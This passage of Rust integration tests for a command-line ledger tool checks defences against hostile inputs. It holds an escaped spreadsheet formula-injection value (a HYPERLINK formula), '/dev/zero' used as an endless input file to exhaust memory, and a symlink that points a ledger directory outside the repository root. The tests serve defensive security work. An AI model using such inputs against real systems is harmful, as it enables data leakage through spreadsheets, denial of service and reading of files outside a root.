            .run(&["report", "formats", "ledger", "--as-of", AS_OF, "-o", "csv"])
            .stdout,
    );
    assert!(formats.contains("forum,\"'\"\"=1+2\""), "{formats}");
    let export = text(&scene.run(&["export", "ledger", "--as-of", AS_OF, "-o", "csv"]).stdout);
    assert!(export.contains("'\u{a0}=HYPERLINK"), "{export}");
}

#[cfg(unix)]
#[test]
fn import_reads_its_rules_and_sheet_within_the_size_limit() {
    // `/dev/zero` as the rules or the sheet grew the memory without bound
    // (2 GB in ten seconds): both were read whole before anything else.
    let scene = Scene::new(&[("ledger/a.track2", VALID), ("sheet.csv", "title,date\nx,2025-01-01\n")]);
    for args in [
        &["import", "sheet.csv", "--rules", "/dev/zero", "ledger"][..],
        &["import", "/dev/zero", "--max-file-size", "1M", "ledger"],
    ] {
        let started = Instant::now();
        let output = scene.run(args);
        assert_exited(&output, 2);
        assert!(text(&output.stderr).contains("size limit"), "{}", printed(&output));
        assert!(started.elapsed() < Duration::from_secs(30), "{:?}", started.elapsed());
    }
}

#[cfg(unix)]
#[test]
fn a_ledger_directory_that_links_out_of_a_given_root_is_not_walked() {
    // track2.toml names `ledgers`, the pull request made it a link to `/`:
    // the walk listed the whole disk, naming every `*.track2` file on it.
    let scene = Scene::new(&[("repo/track2.toml", "paths = [\"ledgers\"]\n")]);
    scene.link("repo/ledgers", "../outside");
    let repo = scene.path("repo");
    for args in [
        &["check", "--as-of", AS_OF][..],
        &["check", "--root", ".", "ledgers", "--as-of", AS_OF],
    ] {
        let output = finish(track2_in(&repo, args), None);
        assert_exited(&output, 2);
        assert!(!printed(&output).contains("secret.track2"), "{}", printed(&output));
        assert!(printed(&output).contains("outside its root"), "{}", printed(&output));
    }
}
